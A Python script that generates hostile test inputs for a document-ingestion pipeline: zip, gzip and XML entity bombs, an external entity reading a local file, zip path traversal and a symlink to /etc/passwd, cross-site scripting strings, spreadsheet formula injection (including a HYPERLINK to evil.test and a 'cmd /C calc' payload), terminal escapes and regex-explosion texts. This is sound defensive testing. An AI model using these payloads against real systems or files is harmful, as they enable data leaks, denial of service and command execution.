"""Hostile inputs, each named for what it is: `python tests/hostile/make.py FOLDER` writes them; none is stored.

An input is a file, or an action on the folder, and what has to become of it: the reason code of each row that it gives, None for an
article that is read.
"""

import gzip
import os
import socket
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

sys.path.insert(0, str(Path(__file__).parents[1]))

from filekinds import make_feed, make_page, make_pdf, make_record, make_workbook, make_zip

TEXT = "Two jets hit a depot near Homs and killed 15 people."
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\x06\0\0\0\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
SUFFIXES = [
    "csv",
    "tsv",
    "json",
    "jsonl",
    "ndjson",
    "parquet",
    "txt",
    "md",
    "html",
    "htm",
    "xhtml",
    "rss",
    "atom",
    "xml",
    "xlsx",
    "xlsm",
    "xls",
    "ods",
    "pdf",
    "warc",
    "warc.gz",
    "zip",
    "gz",
]
SECRET = "hostile inputs are in"  # noqa: S105 -- words of this file, which an entity names and nobody may bring in


class Input(NamedTuple):
    """What to write, or to do in the folder, and the reason code of each row, in order."""

    content: Callable[[], bytes] | Callable[[Path], None]
    codes: tuple[str | None, ...]


ANY = "?"  # an input of which nobody can say what a library makes of it: that there are rows, and that the others are read, is all
READ: tuple[str | None, ...] = (None,)
INPUTS: dict[str, Input] = {}


def add(name: str, content: bytes | Callable[[], bytes], *codes: str | None) -> None:
    INPUTS[name] = Input(content if callable(content) else lambda: content, codes or READ)


def cells(text: str) -> bytes:
    """Make a CSV file of one article."""
    quoted = text.replace('"', '""')
    return f'id,text\n"",{TEXT}\n"","{quoted}"\n'.encode("utf-8", "surrogatepass")


def lines(*values: str) -> bytes:
    """Make JSON Lines of what stands behind "text"."""
    return "".join(f'{{"text": {value}}}\n' for value in values).encode("utf-8", "surrogatepass")


# Encodings

add("encoding_utf16_without_mark.csv", f"text\n{TEXT}\n".encode("utf-16-le"))
add("encoding_utf16_of_an_odd_length.csv", b"\xff\xfe" + f"text\n{TEXT}\n".encode("utf-16-le") + b"\0", "unreadable")
add("encoding_utf16_mark_before_utf8.txt", b"\xff\xfe" + TEXT.encode(), "unreadable" if len(TEXT) % 2 else None)
add("encoding_utf32.txt", TEXT.encode("utf-32"), "wrong_type")
add("encoding_two_in_one_file.csv", f"text\n“{TEXT}”\n".encode() + f"“{TEXT}” said café\n".encode("cp1252"), None, None)
add("encoding_two_in_one_line.csv", f"text\n“Café” {TEXT}".encode() + "café\n".encode("cp1252"))
add("encoding_cyrillic_as_cp1251.txt", ("Самолёты нанесли удар по складу близ Хомса. " * 9).encode("cp1251"), "not_english")
add("encoding_cut_in_a_letter.txt", f"{TEXT} café".encode()[:-1])
add("encoding_overlong_and_lone_bytes.txt", TEXT.encode() + b" \xc0\xaf \xfe \x80\x80 \xf5\x80\x80\x80")
add("encoding_surrogates_as_utf8.txt", TEXT.encode() + b" \xed\xa0\x80\xed\xb0\x80")
add(
    "encoding_a_mark_in_every_line.csv",
    b"\xef\xbb\xbftext\n" + b"".join(b"\xef\xbb\xbf%s\n" % TEXT.encode() for _ in range(2)),
    None,
    "duplicate",
)
add("nul_bytes_in_a_cell.csv", f"text\na\0b\n{TEXT * 9}\n".encode(), "wrong_type", None)
add("nul_bytes_in_a_text.txt", f"{TEXT * 9}\0{TEXT}".encode(), "wrong_type")
add("nul_bytes_alone.txt", b"\0" * 1000, "wrong_type")
add("nul_bytes_escaped.jsonl", lines(f'"a\\u0000{TEXT}"'), "wrong_type")
add("nul_bytes_in_a_page.html", make_page(f"{TEXT}\0{TEXT}\n{TEXT}"))
for suffix in SUFFIXES:
    add(f"empty.{suffix}", b"", "empty")
    add(f"random_bytes.{suffix}", bytes((n * n * 37 + n * 11 + 200) % 251 for n in range(5000)), ANY)
    add(f"blanks.{suffix}", b" \r\n\t\n" * 20, ANY)
    add(f"nothing_but_a_mark.{suffix}", b"\xef\xbb\xbf", ANY)

# Size

add("line_of_100_megabytes.csv", lambda: b"id,text\n1," + b"jets hit Homs " * 7_200_000 + b"\n2,Calm.\n", "unreadable", None)
add("line_of_100_megabytes.jsonl", lambda: b'{"text": "' + b"jets hit Homs " * 7_200_000 + b'"}\n{"text": "Calm again."}\n', "unsafe", None)
add("line_of_100_megabytes.txt", lambda: b"jets hit Homs " * 7_200_000, "unsafe")
add("line_of_100_megabytes.html", lambda: b"<p>" + b"jets hit Homs " * 7_200_000, "unsafe")
add("word_of_a_million_letters.txt", lambda: b"W" * 1_000_000)
add("word_of_a_million_letters.csv", lambda: cells("w" * 1_000_000), None, None)
add("a_million_empty_lines.csv", lambda: b"text\n" + b"\n" * 1_000_000 + TEXT.encode())
add("a_million_columns.csv", lambda: b"a," * 1_000_000 + b"text\n" + b"," * 1_000_000 + TEXT.encode() + b"\n", "unsafe")
add("twenty_thousand_empty_rows.csv", lambda: b"id,text\n" + b",\n" * 20_000, *["empty"] * 20_000)
add("number_of_5000_digits.json", b'[{"text": "%s", "n": %s}]' % (TEXT.encode(), b"9" * 5000))
add("number_of_5000_digits.jsonl", b'{"text": "%s 2", "id": %s}\n{"text": 1e999}\n' % (TEXT.encode(), b"9" * 5000), None, None)

# Quotes and nesting

add("quote_that_never_closes.csv", f'id,text\n1,"{TEXT}\n2,{TEXT}\n3,{TEXT}\n'.encode(), "unreadable", None, None)
add("quote_that_never_closes_before_20_megabytes.csv", lambda: b'id,text\n1,"' + f"{TEXT}\n".encode() * 400_000, "unreadable")
add("quote_opened_in_every_line.csv", lambda: f"id,text,note\na,{TEXT},\n".encode() + b'a","\n' * 50_000, None, "unreadable")
add("quote_opened_in_the_header.csv", f'"id,text\n1,{TEXT}\n'.encode(), "unreadable")
add("nested_ten_thousand_lists.json", b"[" * 10_000 + b"]" * 10_000, "unsafe")
add("nested_ten_thousand_objects.json", b'{"text":' * 10_000 + b"1" + b"}" * 10_000, "unsafe")
add("nested_a_million_lists.json", b"[" * 1_000_000, "unsafe")
add("nested_ten_thousand_deep_in_one_line.jsonl", lines("[" * 10_000 + "]" * 10_000, f'"{TEXT}"'), "unsafe", None)
add("nested_800_deep_in_a_cell.jsonl", lines("[" * 800 + "]" * 800, f'"{TEXT}"'), "unreadable", None)
add("nested_a_hundred_thousand_tags.html", lambda: b"<html><body>" + b"<div>" * 100_000 + TEXT.encode(), ANY)
add("nested_json_ld.html", make_page(TEXT, f'<script type="application/ld+json">{"[" * 100_000}</script>'))

# Bombs

LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
OUTSIDE = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{Path(__file__).as_uri()}">]>'
add("entity_bomb.xml", make_feed("<title>&a11;</title><description>&a11;</description>", before=LAUGHS), ANY)
add("entity_bomb.xhtml", LAUGHS.encode() + make_page("&a11;"), ANY)
add(
    "entity_bomb_in_a_workbook.xlsx",
    make_workbook(
        {"A": [["text"], [("xml", "<c/>")]]},
        {
            "xl/worksheets/sheet0.xml": (
                f'{LAUGHS}<worksheet><sheetData><row><c t="inlineStr"><is><t>text</t></is></c></row>'
                '<row><c t="inlineStr"><is><t>&a11;</t></is></c></row>'
                "</sheetData></worksheet>"
            ).encode()
        },
    ),
    ANY,
)
add("entity_from_a_file.rss", make_feed(f"<title>&x;</title><description>{TEXT} &x;</description>", before=OUTSIDE))
add("entity_from_a_file.xhtml", OUTSIDE.encode() + make_page(f"{TEXT} &x;"), "unreadable")
add("zip_bomb_of_zeros.zip", lambda: make_zip({"a.txt": b"0" * 60_000_000}), "unsafe")
add("zip_bomb_of_many_files.zip", lambda: make_zip({f"{n}.txt": b"0" * 20_000_000 for n in range(4)}), "unsafe", "unsafe", "unsafe")
add("zip_in_zip_in_zip.zip", lambda: nest_zips(8), "unsafe")
add("zip_whose_files_overlap.zip", lambda: overlap_zip(2000), ANY)
add(
    "zip_that_tells_a_wrong_size.zip",
    lambda: make_zip({"a.txt": TEXT.encode() * 9}).replace(struct.pack("<I", 9 * len(TEXT)), struct.pack("<I", 5)),
    ANY,
)
add(
    "zip_of_a_method_nobody_knows.zip",
    lambda: make_zip({"a.txt": b""}).replace(b"PK\1\2\x14\3\x14\0\0\0\x08\0", b"PK\1\2\x14\3\x14\0\0\0\x63\0"),
    "unreadable",
)
add("zip_cut_off.zip", make_zip({"a.txt": TEXT.encode()})[:-30], "unreadable")
add(
    "zip_encrypted.zip",
    lambda: make_zip({"a.txt": TEXT.encode()}).replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"),
    "unreadable",
)
add("gzip_bomb.csv.gz", lambda: gzip.compress(b"text\n" + b"0" * 60_000_000), "unsafe")
add("gzip_in_gzip_in_gzip.txt.gz.gz.gz.gz.gz.gz", lambda: nest_gzip(6), "unsafe")
add("gzip_cut_off.csv.gz", gzip.compress(f"text\n{TEXT} Gz.\n".encode())[:-6], None, "unreadable")
add(
    "gzip_bomb_of_a_page.warc",
    lambda: (
        make_record("https://a.example", gzip.compress(b"<p>" + b"a" * 60_000_000), headers="Content-Encoding: gzip\r\n")
        + make_record("https://a.example/2", make_page(f"{TEXT} Behind a bomb."))
    ),
    "unsafe",
    None,
)
add("workbook_bomb.xlsx", lambda: make_workbook({"A": [["text"], ["A" * 60_000_000]]}), "unsafe")
add("workbook_of_all_cells.xlsx", lambda: make_workbook({"A": [["text"], [TEXT, ("xml", '<c r="XFD1048576"><v>1</v></c>')]]}), "unsafe")
add("parquet_bomb.parquet", lambda: bomb_parquet(), ANY)
add("json_of_thirty_million_lists.json", lambda: b"[" + b"[]," * 30_000_000 + b"0]", "unsafe")
add("lines_fifty_million.jsonl", lambda: b"0\n" * 50_000_000, "unsafe")
add("rows_fifty_million.csv", lambda: b"text\n" + b"0\n" * 50_000_000, "unsafe")

# Names and paths

add(
    "path_that_climbs_out.zip",
    make_zip({"../../climbed.txt": TEXT.encode(), "/climbed.txt": b"a", "C:\\climbed.txt": b"b", "..\\climbed.txt": b"c"}),
    *["unsafe"] * 4,
)
add("path_that_is_a_link.zip", lambda: make_zip([(link("a.txt"), b"/etc/passwd")]), "wrong_type")
add(
    "path_with_a_terminal_escape.zip",
    make_zip({"\x1b[2Ja\u202etxt.exe.txt": TEXT.encode() + b" Escaped.", "line\nfeed.txt": b"Two lines."}),
    None,
    None,
)
add("path_twice_in_one_archive.zip", lambda: make_zip([("a.txt", b"Once."), ("a.txt", b"Twice.")]), None, None)
add("picture.txt", PNG, "wrong_type")
for suffix in SUFFIXES:
    if suffix != "txt":
        add(f"picture.{suffix}", JPEG + bytes(range(256)) * 9, "wrong_type" if suffix in ("csv", "json", "md", "pdf", "rss") else ANY)
add("pdf.txt", make_pdf([TEXT]), "wrong_type")
add("workbook.csv", make_workbook({"A": [["text"], [TEXT]]}), "wrong_type")
add("page.pdf", make_page(TEXT), "wrong_type")
add("unknown_format.docx", b"words", "wrong_type")
add("no_suffix_at_all", b"words", "wrong_type")

# Pages, PDF

add(
    "forty_thousand_attributes.html",
    lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(40_000)) + f">{TEXT}</p>".encode(),
    ANY,
)
add("a_million_tags.html", lambda: b"<html><body>" + b"<br>" * 1_000_000 + TEXT.encode(), ANY)
add("attribute_of_five_megabytes.html", lambda: make_page(f'<a href="{"x" * 5_000_000}">{TEXT}</a>'), ANY)
add("comment_that_never_ends.html", make_page(f"{TEXT}\n{TEXT}") + b"<!-- " + b"x" * 100_000)
add(
    "scripts_in_a_page.html",
    make_page(
        f"{TEXT}<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='//evil.test'></iframe>\n{TEXT} <svg onload=alert(1)>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'><base href='//evil.test'><style>*{background:url(//evil.test)}</style>",
    ),
)
add("pdf_that_nests_itself.pdf", lambda: make_pdf([TEXT]).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"), ANY)
add("pdf_cut_off.pdf", make_pdf([TEXT] * 9)[:-700], ANY)
add("pdf_of_a_thousand_pages.pdf", lambda: make_pdf(*[[f"{TEXT} {n}"] for n in range(1000)]))
add("pdf_without_text.pdf", make_pdf([]), "empty")
add(
    "feed_cut_off.rss",
    make_feed(f"<description>{TEXT} Fed.</description>", f"<description>{TEXT} Cut.</description>")[:-60],
    None,
    "empty",
    "unreadable",
)
add(
    "feed_of_scripts.atom",
    make_feed(
        "<title>&lt;script&gt;alert(1)&lt;/script&gt;A</title><link>javascript:alert(1)</link>"
        f"<description>&lt;p onclick=alert(1)&gt;{TEXT} Scripted.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description>"
    ),
)
add(
    "web_archive_cut_off.warc",
    make_record("https://a.example/1", make_page(TEXT)) + make_record("https://a.example/2", make_page(TEXT))[:-90],
    None,
    "unreadable",
)
add("web_archive_of_scripts.warc", make_record("javascript:alert(1)", make_page(f"{TEXT} No address.")))

# Texts: each is an article, kept letter for letter

TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)> {{7*7}} ${7*7}",
    "formula": '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "formula_with_a_command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal_escape": "red \x1b[31m alert \x1b]0;title\x07 \x9b2J",
    "bidi_override": "override \u202egnp.exe\u202c and \u2066isolate\u2069",
    "invisible_letters": "zero\u200bwidth \u00adsoft \ufeffmark \U000e0041tag",
    "combining_marks": "Z" + "\u0301" * 5000,
    "last_letters_of_unicode": "\U0010ffff \ufffe \ufdd0",
    "line_ends_of_all_kinds": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "right_to_left": "عاجل: غارة على دوما",
}
for name, text in TEXTS.items():
    add(f"text_{name}.csv", cells(f"{TEXT} {text}"), None, None)
add("text_surrogates.jsonl", lines(f'"{TEXT} \\ud83d"', '"\\udc00\\ud800"', f'"{TEXT} \\ud83d\\udca5"'), "unreadable", "unreadable", None)
add("text_surrogates.csv", cells(f"{TEXT} \ud800"), None, None)
add(
    "text_formulas.xlsx",
    make_workbook(
        {
            "A": [
                ["text"],
                [f"=1+1 {TEXT}"],
                [("xml", "<c><f>1+1</f><v>2</v></c>")],
                [("xml", '<c><f>HYPERLINK("http://evil.test")</f></c>')],
            ]
        }
    ),
    None,
    None,
)

# Dates

DATES = [
    *("0000-00-00", "0000-01-01", "0001-01-01", "9999-12-31T23:59:60Z", "10000-01-01", "-1", "99999999999999999999", "9999999999"),
    *("1e308", "32/13/2019", "29 February 2019", "Feb 31, 2019", "20190230", "٢٠١٩-٠٢-٠٥", "NaT", "NaN", "0"),
    *("1" * 5000, "5 " + "January" * 500 + " 2019"),
]
add(
    "dates_of_no_calendar.jsonl",
    "".join(f'{{"text": "{TEXT} {n}", "date": "{day}"}}\n' for n, day in enumerate(DATES)).encode(),
    *[None] * len(DATES),
)
add(
    "dates_as_numbers.jsonl",
    b"".join(
        b'{"text": "%d dated", "date": %s}\n' % pair
        for pair in enumerate([b"1e308", b"-1", b"NaN", b"Infinity", b"[]", b"true", b"0", b"99999999999999"])
    ),
    *[None] * 8,
)
add("dates_of_year_0_and_9999.parquet", lambda: date_parquet(), ANY)
add(
    "dates_of_no_calendar.xlsx",
    make_workbook({"A": [["date", "text"], *[[("day", day), f"{TEXT} Day {day}."] for day in (-1, 0, 60, 2958465, 2958466, 1e300)]]}),
    *[None] * 6,
)
add(
    "dates_of_year_0.rss",
    make_feed(
        *(
            f"<description>{TEXT} On {day}.</description><pubDate>{day}</pubDate>"
            for day in ("0000-00-00", "Tue, 99 Foo 0000 99:99:99 +9999", "9999-12-31")
        )
    ),
    None,
    None,
    None,
)
add("dates_of_year_0.html", make_page(TEXT, '<meta name="date" content="0000-00-00"><meta name="date" content="9999-99-99">'))

# What makes a careless regular expression explode

PATTERNS = {
    "blanks": " " * 20_000 + "x",
    "line_ends": "\n" * 20_000 + "x",
    "one_letter": "a" * 20_000 + "!",
    "capitals": "A" * 20_000 + "(",
    "words_in_capitals": "AL " * 7000 + "x",
    "names": "Al-Bab " * 3000,
    "hyphens": "a-" * 10_000,
    "brackets": "(" * 10_000 + ")" * 10_000,
    "quotes": '" ' * 10_000,
    "quotes_and_capitals": "“A " * 5000,
    "commas": "a, " * 7000,
    "commas_alone": "," * 20_000,
    "full_stops": "." * 20_000,
    "full_stops_and_capitals": "A." * 10_000,
    "digits": "1" * 20_000,
    "digits_and_commas": "1," * 10_000,
    "digits_and_hyphens": "1-" * 10_000,
    "numbers": "twenty-one " * 2000,
    "months": "January " * 2500,
    "days_and_months": "5 May and " * 2000,
    "years": "2019 " * 4000,
    "datelines": "BEIRUT, Feb. " * 1500,
    "datelines_in_brackets": "BEIRUT (" * 2500,
    "apostrophes": "'s" * 10_000,
    "killed": "killed " * 3000,
    "and": "and " * 5000,
    "of_the": "of the " * 3000,
    "marks": "\u0301" * 20_000,
    "blanks_of_all_kinds": "\u00a0\u2003\t" * 6000 + "x",
}
for name, text in PATTERNS.items():
    add(f"pattern_{name}.txt", text.encode() + b" " + TEXT.encode() + b" " + text.encode(), ANY)


def nest_zips(depth: int) -> bytes:
    data = TEXT.encode()
    for n in range(depth):
        data = make_zip({"a.zip" if n else "a.txt": data})
    return data


def nest_gzip(depth: int) -> bytes:
    data = TEXT.encode()
    for _ in range(depth):
        data = gzip.compress(data)
    return data


def overlap_zip(n: int) -> bytes:
    """Make a ZIP archive whose directory names the same packed megabyte again and again."""
    packed = make_zip({"0000.txt": b"0" * 1_000_000})
    begin = packed.index(b"PK\1\2")
    end = packed.index(b"PK\5\6")
    entry = packed[begin:end]
    directory = b"".join(entry.replace(b"0000.txt", b"%04d.txt" % number) for number in range(n))
    return packed[:begin] + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n, n, len(directory), begin, 0)


def bomb_parquet() -> bytes:
    """Make a Parquet file of a few kilobytes in which a text of a megabyte stands in each of 20,000 rows."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    column = pa.DictionaryArray.from_arrays(pa.array([0] * 20_000, pa.int32()), pa.array(["jets hit Homs " * 70_000]))
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table({"text": column}), sink, compression="zstd")
    return bytes(sink.getvalue())


def date_parquet() -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    days = pa.array([-(2**62), 2**62, 0, -719_529 * 86_400_000_000], pa.int64()).cast(pa.timestamp("us"))
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table({"text": [f"{TEXT} {n} days" for n in range(4)], "date": days}), sink)
    return bytes(sink.getvalue())


def link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


# Folders


def _loop(folder: Path) -> None:
    (folder / "folder_loop").mkdir()
    (folder / "folder_loop" / "up").symlink_to(folder)
    (folder / "folder_loop" / "itself").symlink_to(folder / "folder_loop" / "itself")


def _deep(folder: Path) -> None:
    (folder / "folders_1500_deep").mkdir()
    before = os.open(".", os.O_RDONLY)
    os.chdir(folder / "folders_1500_deep")
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        Path("end.txt").write_text(f"{TEXT} Deep down.", encoding="utf-8")
    finally:
        os.fchdir(before)
        os.close(before)


def _lock(path: Path, *, as_folder: bool) -> None:
    path.mkdir() if as_folder else path.write_text(TEXT, encoding="utf-8")
    path.chmod(0)


def _bind(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        before = os.getcwd()
        os.chdir(path.parent)  # the path of a socket may not be long
        try:
            listener.bind(path.name)
        finally:
            os.chdir(before)


LOCKED = "unreadable" if hasattr(os, "geteuid") and os.geteuid() else None  # nothing is locked for the root user
if os.name == "posix":
    INPUTS |= {
        "folder_loop": Input(_loop, ("unreadable",)),
        "folders_1500_deep": Input(_deep, (None,)),
        "folder_link_to_nothing.txt": Input(lambda folder: (folder / "folder_link_to_nothing.txt").symlink_to("nothing"), ("unreadable",)),
        "folder_locked": Input(lambda folder: _lock(folder / "folder_locked", as_folder=True), (LOCKED,) if LOCKED else ()),
        "file_locked.txt": Input(lambda folder: _lock(folder / "file_locked.txt", as_folder=False), (LOCKED,)),
        "file_that_is_a_pipe.txt": Input(lambda folder: os.mkfifo(folder / "file_that_is_a_pipe.txt"), ("wrong_type",)),
        "file_that_is_a_socket.txt": Input(lambda folder: _bind(folder / "file_that_is_a_socket.txt"), ("wrong_type",)),
        "file_that_is_a_device.txt": Input(lambda folder: (folder / "file_that_is_a_device.txt").symlink_to("/dev/zero"), ("wrong_type",)),
        "file_name_of_no_encoding": Input(
            lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/file_name_of_no_encoding\xff\x1b[2J.txt")).write_bytes(b"Named."),
            (None,),
        ),
    }


def write_input(name: str, folder: Path) -> None:
    """Write an input into a folder, or do there what it is."""
    content = INPUTS[name].content
    if content.__code__.co_argcount:
        content(folder)
    else:
        (folder / name).write_bytes(content())


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    for name in INPUTS:
        write_input(name, target)
    print(f"{len(INPUTS)} hostile inputs are in {target}")
